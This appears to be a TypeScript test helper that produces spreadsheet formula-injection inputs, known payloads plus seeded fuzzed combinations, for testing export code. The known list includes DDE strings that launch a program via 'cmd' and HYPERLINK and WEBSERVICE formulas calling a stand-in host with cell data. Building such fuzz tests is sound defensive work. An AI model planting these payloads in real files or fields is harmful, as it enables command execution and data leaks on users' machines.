import { array, constantFrom, sample } from 'fast-check';

/** Known attacks and accidents: formulas, dynamic data exchange, links, errors, escapes, separators, controls. */
const known = [
  '=1+1', '=cmd|\' /C calc\'!A0', '@SUM(1+1)*cmd|\' /C calc\'!A0', '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://example.invalid/?"&A1;"Katso")', '=WEBSERVICE("http://example.invalid")', '{=1+1}', '=DDE("a";"b";"c")',
  ' =1+1', '\t=1+1', '\r=1+1', '\n=1+1', '\u00a0=1+1', '\u200b=1+1', '\ufeff=1+1', '＝1+1', '＋1', '－1', '＠SUM(1)', '−1+1',
  '"=1+1"', '";=1+1;"', 'a;=1+1', 'a\r\n=1+1', 'a\n=1+1;=2+2', "'=1+1", '\'', '"', '""', ';', ';;', '\u0000=1+1', '%0A=1+1',
  '#N/A', '#REF!', '#VALUE!', '#DIV/0!', '#NAME?', '#NUM!', '#NULL!', '#SPILL!', 'Err:502', 'TRUE', 'tosi', 'epätosi',
  '_x003D_1+1', '_x0041_', '_x000D_', '&#61;1+1', '<f>1+1</f>', ']]>', '</t></is></c>', '\ud800', 'ä\udc00ö', '\ufffe', '=', '+', '-', '@',
]; // prettier-ignore

const pieces = [
  '=', '+', '-', '@', '\t', '\r', '\n', ';', '"', "'", ' ', '\u00a0', '\u200b', '|', '!', '#', '%', '€', '(', ')', '{', '}', '.', ',', ':', '/',
  '0', '1', '3', '9', '10', '12', '2026', '2027', 'e', 'E', 'T', 'Z', 'pm', 'a', 'ä', 'klo ', 'A1', 'SUM(', 'cmd', 'loka', 'lokakuu', 'helmikuuta',
  'jan', 'Feb', 'maanantai', 'tosi', 'TRUE', 'N/A', '_x003D_', '½', '²', '−', '＝', '\u0001', '\u{1f600}', 'kr', '$', 'EUR',
]; // prettier-ignore

/** The known texts and `count` made of pieces that spreadsheet programs care about; the same ones for the same seed. */
export function hostileTexts(count: number, seed = 20_261_031): string[] {
  const made = array(constantFrom(...pieces), { minLength: 1, maxLength: 6 }).map((some) => some.join(''));
  return [...known, ...sample(made, { numRuns: count, seed })];
}
